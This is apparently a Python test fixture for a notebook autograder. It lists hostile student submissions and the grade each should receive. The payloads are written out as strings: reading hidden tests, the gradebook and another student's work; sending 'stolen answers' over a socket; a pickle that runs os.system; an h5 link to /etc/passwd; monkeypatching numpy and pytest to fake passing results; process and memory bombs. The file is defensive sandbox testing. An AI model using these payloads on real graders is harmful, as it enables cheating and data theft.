"""A corpus of hostile and broken submissions, each with what the grader must make of it.

Each case starts from the reference notebook (or from nothing) and breaks it one way. `lost` names
the grade cells that must score nothing (every other one earns full points) and `says` a phrase the
one-line summary a student reads must hold. Cases are graded as a class, mixed with good work
(tests/test_hostile.py).
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell, new_notebook, new_output

from autograder import notebooks

REGRESSION = "02_gradient_tape"
LEFT_OUT = "a cell you added stopped the kernel"
CLEAN = "your notebook ran without errors"


@dataclass
class Context:
    """What a case may aim at: host paths that must stay unread and unwritten, a loopback port."""

    root: Path       # the course checkout: hidden checks, source/, gradebook
    other: Path      # another student's submission
    markers: list[Path]  # host paths that no case may create
    port: int        # a loopback listener that must receive nothing


@dataclass
class Case:
    name: str
    build: Callable[[notebooks.NotebookNode, Context], object]  # the reference notebook -> a notebook or bytes
    says: str
    lost: set[str] = field(default_factory=set)  # grade cells that score nothing
    failing: set[str] = field(default_factory=set)  # single checks that fail besides
    check_says: str = ""  # a phrase one failing check's message must hold
    assignment: str = REGRESSION
    filename: str | None = None


def cell_index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if notebooks.nbgrader_meta(c).get("grade_id") == grade_id)


def added(code: str, after: str = "mse"):
    """A cell the student added after a solution cell (by default mse's: train_step and fit_line follow).

    `{port}`, `{root}`, `{other}` and `{markers}` in the code become the context's values.
    """
    def build(nb, ctx):
        nb.cells.insert(cell_index(nb, after) + 1, new_code_cell(filled(code, ctx)))
        return nb
    return build


def replaced(grade_id: str, code: str):
    """The solution cell `grade_id` rewritten (its function defined anew after the original)."""
    def build(nb, ctx):
        cell = nb.cells[cell_index(nb, grade_id)]
        cell.source = cell.source + "\n\n" + filled(code, ctx)
        return nb
    return build


def filled(code: str, ctx: Context) -> str:
    for key, value in {"{port}": ctx.port, "{root}": repr(str(ctx.root)), "{other}": repr(str(ctx.other)),
                       "{markers}": repr([str(p) for p in ctx.markers])}.items():
        code = code.replace(key, str(value))
    return code


def raw(data: bytes):
    return lambda nb, ctx: data


def as_v3(nb, ctx):
    return nbformat.writes(nbformat.convert(nb, 3)).encode()


def empty(nb, ctx):
    return new_notebook()


def with_kernel(nb, ctx):
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return nb


def tagged(nb, ctx):
    for cell in nb.cells:
        if notebooks.is_solution(cell):
            cell.metadata["tags"] = ["skip-execution", "raises-exception"]
    return nb


def without_locked(nb, ctx):
    nb.cells = [c for c in nb.cells if notebooks.is_solution(c)]
    return nb


def duplicated_and_edited(nb, ctx):
    i = cell_index(nb, "fit_line")
    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[i])))
    copy.source = "def fit_line(x, y, lr=0.5, epochs=100):\n    return 0.0, 0.0\n"
    nb.cells.insert(i + 1, copy)
    for cell in nb.cells:
        if notebooks.is_grade(cell):
            cell.source = "assert True"
        elif cell.cell_type == "code" and not notebooks.is_solution(cell):
            cell.source = "import numpy as np\nnp.allclose = lambda *a, **k: True\n" + cell.source
    return nb


def big_saved_image(nb, ctx):
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(30_000_000)).decode()
    cell = nb.cells[cell_index(nb, "mse")]
    cell.outputs = [new_output("display_data", data={"image/png": picture})]
    return nb


def unicode_names(nb, ctx):
    nb.cells.insert(cell_index(nb, "mse") + 1, new_code_cell(
        "Δ = 'données ✓ 学生 🙂'\nπλάτος = len(Δ)\nprint(Δ, πλάτος)"))
    return nb


WRITE_OUTSIDE = """import os
for where in {markers}:
    try:
        with open(where, "w") as f:
            f.write("hostile")
    except OSError:
        pass
"""

READ_SECRETS = """import glob
targets = [{root} + "/exercises/02_gradient_tape/test_fit_line.py", {root} + "/source/02_gradient_tape/regression.ipynb",
           {other}] + glob.glob({root} + "/**/gradebook.db", recursive=True)
for path in targets:
    try:
        text = open(path).read()
    except OSError:
        continue
    raise RuntimeError("LEAKED " + text[:80])
"""

NETWORK = """import socket
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET6, ("::1", {port}))]:
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"stolen answers")
    except OSError:
        pass
"""

MODULE_FILES = """for name in ["numpy", "conftest", "pytest", "autograder", "sitecustomize", "json", "keras", "h5py"]:
    with open(name + ".py", "w") as f:
        f.write("import os\\nos._exit(42)\\n")
"""

MONKEYPATCH = """import builtins, math
import numpy as np
import pytest
np.allclose = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
pytest.approx = lambda expected, **k: object()

def fit_line(x, y, lr=0.5, epochs=100):
    return 0.0, 0.0
"""

LIARS = """class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __abs__(self): return 0.0
    def __float__(self): return 0.0

_fit = fit_line

def fit_line(x, y, lr=0.5, epochs=100):  # trained with tf.GradientTape, as before; the answer lies
    a, b = _fit(x, y, lr, epochs)
    return Liar(a), Liar(b)
"""

PICKLE = """import os, pickle
import numpy as np

class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickle-ran",))

def fit_line(x, y, lr=0.5, epochs=100):  # tf.GradientTape in a comment earns nothing
    return np.array([Payload()], dtype=object), pickle.dumps(Payload())
"""

WRONG_FORMS = """def make_line_data(n, a_true, b_true, noise, seed):
    return None, "x"

def fit_line(x, y, lr=0.5, epochs=100):  # tf.GradientTape in a comment earns nothing
    return float("nan"), 1.0
"""

DIES_WHEN_CALLED = """_made = make_line_data

def make_line_data(n, a_true, b_true, noise, seed):
    if n > 1000:
        import os
        os._exit(1)
    return _made(n, a_true, b_true, noise, seed)
"""

HANGS_WHEN_CALLED = """_made = make_line_data

def make_line_data(n, a_true, b_true, noise, seed):
    while n > 1000:
        pass
    return _made(n, a_true, b_true, noise, seed)
"""

LAMBDA_MODEL = """def build_linear_stack():
    import keras
    def payload(x):
        try:
            open({root} + "/lambda-ran", "w").write("ran")
        except OSError:
            pass
        return x
    return keras.Sequential([keras.Input((2,)), keras.layers.Dense(3), keras.layers.Lambda(lambda x: payload(x)),
                             keras.layers.Dense(3), keras.layers.Dense(1)])
"""

ODD_H5 = """def save_h5(model, path):
    import h5py, json
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Lambda", "config": {"function": "os.system"}})
        f["model_weights"] = h5py.ExternalLink("/etc/passwd", "/")
        f.create_dataset("huge", shape=(10**12,), dtype="f8")  # sparse: claims 8 TB
"""


# A SavedModel is a graph the student wrote: this one's serve() writes to the host and reads the hidden checks.
REACHING_SAVEDMODEL = """def export_savedmodel(model, path):
    import tensorflow as tf

    class Reaching(tf.Module):
        def __init__(self, model):
            super().__init__()
            self.model = model

        @tf.function(input_signature=[tf.TensorSpec([None, 2], tf.float32)])
        def serve(self, x):
            for where in {markers}:
                tf.io.write_file(where, "written by a SavedModel's graph")
            tf.io.write_file(where + ".checks", tf.io.read_file({root} + "/exercises/05_train_and_save/test_export_savedmodel.py"))
            return self.model(x)

    tf.saved_model.save(Reaching(model), path)
"""
SERVES_AS_THE_MODEL = "export_savedmodel: its serve signature, loaded with tf.saved_model.load, predicts as the model"


FIT_LINE_VALUES = {"fit_line: matches least squares on hidden data", "fit_line: with epochs=1, equals one analytic step from (0, 0)",
                   "fit_line: returns two Python floats"}
FIT_LINE_ALL = FIT_LINE_VALUES | {"fit_line: trains with tf.GradientTape"}
ALL = {"make_line_data", "mse", "train_step", "fit_line"}

CASES = [
    Case("infinite-loop", added("while True:\n    pass"), "a cell you added ran longer than"),
    Case("sleeps-forever", added("import time\ntime.sleep(10**6)"), "a cell you added ran longer than"),
    Case("ignores-interrupts", added("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                     "while True:\n    time.sleep(0.1)"), "(it could not be interrupted)"),
    Case("os-exit", added("import os\nos._exit(3)"), f"{LEFT_OUT} (the kernel died)"),
    Case("segfault", added("import ctypes\nctypes.string_at(0)"), f"{LEFT_OUT} (the kernel died)"),
    # In its own PID namespace the kernel's parent is bubblewrap's init, which ignores the signal.
    Case("kills-parent", added("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"), CLEAN),
    Case("kills-own-group", added("import os, signal\nos.killpg(0, signal.SIGKILL)"), f"{LEFT_OUT} (the kernel died)"),
    Case("system-exit", added("raise SystemExit(3)"), "a cell you added raised SystemExit: 3"),
    Case("exit-call", added("exit()"), f"{LEFT_OUT} (it called exit())"),
    Case("many-processes", added("import subprocess\nkids = [subprocess.Popen(['sleep', '600']) for _ in range(150)]\n"
                                 "import time\ntime.sleep(5)"), f"{LEFT_OUT} (started more than"),
    Case("leaves-processes", added("import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 987654 &'], "
                                   "start_new_session=True)"), CLEAN),
    Case("memory-hog", added("import numpy as np\nhog = np.ones(3 * 2**30 // 8)"), f"{LEFT_OUT} (used more than"),
    Case("disk-hog", added("block = bytes(200 * 2**20)\nfor i in range(12):\n    with open(f'blob{i}', 'wb') as f:\n"
                           "        f.write(block)\nimport time\ntime.sleep(5)"), f"{LEFT_OUT} (wrote more than"),
    Case("huge-file", added("with open('big', 'wb') as f:\n    f.seek(2 * 2**30)\n    f.write(b'x')"),
         "a cell you added raised OSError"),
    Case("prints-hundreds-of-mb", added("for _ in range(30):\n    print('x' * 10_000_000)"), "bytes was not kept"),
    Case("displays-huge-image", added("from IPython.display import Image, display\n"
                                      "display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + bytes(40_000_000)))"),
         "bytes was not kept"),
    Case("saved-huge-image", big_saved_image, "the outputs saved in it were ignored"),
    Case("writes-outside", added(WRITE_OUTSIDE), CLEAN),
    Case("reads-secrets", added(READ_SECRETS), CLEAN),
    Case("network", added(NETWORK), CLEAN),
    Case("module-named-files", added(MODULE_FILES), CLEAN),
    Case("monkeypatches", replaced("fit_line", MONKEYPATCH), CLEAN, {"fit_line"}),
    Case("lying-objects", replaced("fit_line", LIARS), CLEAN, failing=FIT_LINE_VALUES, check_says="it is a Liar object"),
    Case("pickle-payload", replaced("fit_line", PICKLE), CLEAN, failing=FIT_LINE_ALL,
         check_says="the grader could not read what your code returned"),
    Case("wrong-forms", added(WRONG_FORMS, after="fit_line"), CLEAN, {"make_line_data"}, FIT_LINE_ALL,
         check_says="should be a finite number; it is NaN"),
    Case("dies-when-called", replaced("make_line_data", DIES_WHEN_CALLED), CLEAN, {"make_line_data"},
         check_says="the notebook was run again in a new kernel for the next checks"),
    Case("hangs-when-called", replaced("make_line_data", HANGS_WHEN_CALLED), CLEAN, {"make_line_data"},
         check_says="and was stopped"),
    Case("invalid-json", raw(b'{"cells": [{"cell_type": "code", "source": "'), "is not a notebook: it is not JSON text",
         ALL),
    Case("not-a-notebook", raw(b"\x89PNG\r\n\x1a\n" + bytes(1000)), "is not a notebook: it is not JSON text",
         ALL),
    Case("nbformat-v3", as_v3, CLEAN),
    Case("empty-notebook", empty, "none of the released solution cells were found",
         ALL),
    Case("wrong-kernelspec", with_kernel, "the notebook asks for the 'ir' kernel"),
    Case("skip-and-raises-tags", tagged, CLEAN),
    Case("locked-cells-deleted", without_locked, CLEAN),
    Case("locked-cells-duplicated-and-edited", duplicated_and_edited, "the fit_line cell appears 2 times"),
    Case("unicode-names-zoë-学生", unicode_names, CLEAN, filename="régression ✓ 学生.ipynb"),
    Case("huge-cell", added("x = 0\n" + "x += 1\n" * 40_000), "holds more than 200,000 characters"),
    Case("lambda-layer", replaced("build_linear_stack", LAMBDA_MODEL), CLEAN, {"build_linear_stack"},
         assignment="04_keras_models"),
    Case("odd-h5-file", replaced("saving", ODD_H5), CLEAN, failing={
        "save_h5: writes an HDF5 file holding the architecture and the weights",
        "save_h5: the file loads in a clean process with safe_mode=True and predicts the same",
        "load: loads both files back"}, assignment="05_train_and_save"),
    Case("savedmodel-graph-reaches-out", replaced("export_savedmodel", REACHING_SAVEDMODEL), CLEAN,
         failing={SERVES_AS_THE_MODEL}, assignment="05_train_and_save"),
]
